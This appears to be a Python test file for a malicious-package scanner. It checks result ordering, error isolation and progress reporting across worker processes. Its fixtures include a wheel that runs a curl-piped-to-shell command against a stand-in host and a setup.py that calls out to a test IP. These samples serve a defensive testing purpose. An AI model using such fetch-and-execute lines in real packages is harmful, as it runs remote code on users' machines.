"""The pool over artifacts: order, errors as values, and a worker that is killed."""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

from scanner.code.artifacts import Job
from scanner.code.pool import analyse_artifacts
from scanner.model.finding import PackageRef


def wheel(path: Path, code: str) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("example/__init__.py", code)
    return path


def test_results_come_in_order_and_a_broken_archive_costs_only_itself(tmp_path: Path) -> None:
    good = wheel(tmp_path / "a-1-py3-none-any.whl", "X = 1\n")
    broken = tmp_path / "b-1-py3-none-any.whl"
    broken.write_bytes(b"PK\x03\x04 nothing of use")
    bad = wheel(tmp_path / "c-1-py3-none-any.whl", "import os\nos.system('curl https://drop.invalid/x | sh')\n")
    sdist = tmp_path / "d-1.tar.gz"
    with tarfile.open(sdist, "w:gz") as archive:
        data = b"import urllib.request\nurllib.request.urlopen('http://198.18.0.7/x')\n"
        info = tarfile.TarInfo("d-1/setup.py")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    jobs = [Job(str(path), path.name, PackageRef(path.name[0], "1")) for path in (good, broken, bad, sdist)]
    progress: list[tuple[int, int]] = []
    results = list(analyse_artifacts(jobs, 2, lambda done, total: progress.append((done, total))))
    assert [job for job, _ in results] == jobs
    assert [analysis.verdict for _, analysis in results] == ["clean", "error", "malicious", "suspicious"]
    assert progress == [(1, 4), (2, 4), (3, 4), (4, 4)]
    assert "readable archive" in results[1][1].error


def test_one_process_gives_the_same_as_two(tmp_path: Path) -> None:
    paths = [wheel(tmp_path / f"p{n}-1-py3-none-any.whl", f"import os\nos.system('echo {n}')\n") for n in range(3)]
    jobs = [Job(str(path), path.name, PackageRef(path.name[:2], "1")) for path in paths]
    alone = [(one.verdict, one.findings, one.capabilities) for _, one in analyse_artifacts(jobs, 1)]
    together = [(one.verdict, one.findings, one.capabilities) for _, one in analyse_artifacts(jobs, 2)]
    assert alone == together
